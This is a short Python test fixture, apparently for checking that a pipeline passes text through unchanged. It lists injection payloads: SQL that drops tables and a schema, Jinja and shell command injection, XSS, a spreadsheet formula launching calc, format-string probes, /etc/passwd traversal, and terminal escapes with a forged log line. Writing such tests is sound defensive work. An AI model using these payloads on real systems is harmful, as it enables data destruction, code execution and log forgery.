"""Words that act where somebody takes them for more than words: each has to come out as it went in."""

TITLES = {
    "SQL": "Robots'); DROP TABLE marts.articles; DROP SCHEMA marts CASCADE; --",
    "Jinja": "Robots {{ 1 / 0 }}{% raw %}{{ run_query('drop schema marts cascade') }}{# #}",
    "a shell's words": "Robots $(touch owned) `touch owned` ; touch owned & | touch owned > owned",
    "HTML": "Robots <script>alert(1)</script><img src=x onerror=alert(1)>\"' --></title>",
    "markup": "Robots [bold red]a[/bold red][link=https://example.org]b[/link] **c** `d`",
    "a formula": '=HYPERLINK("https://example.org?"&A1,"Robots")+cmd|\'/C calc\'!A0',
    "a format": "Robots %s %n %(x)s {0.__class__} {x!r} $x ${x}",
    "a path": "../../../../etc/passwd%00/Robots",
}
CONTROLS = "\x1b[2J\x1b[31mRobots\x1b]0;owned\x07\x9b31m\u202etxt\r\n2026-01-01 00:00:00 INFO all is well"
"""What steers a terminal, turns a line around and feigns a line of a log."""
FIRMS = ["Sqlonix", "Jinjara", "Shellmar", "Htmeldo", "Markuva", "Formilux", "Patternix", "Pathway Robotics", "Ansimor"]
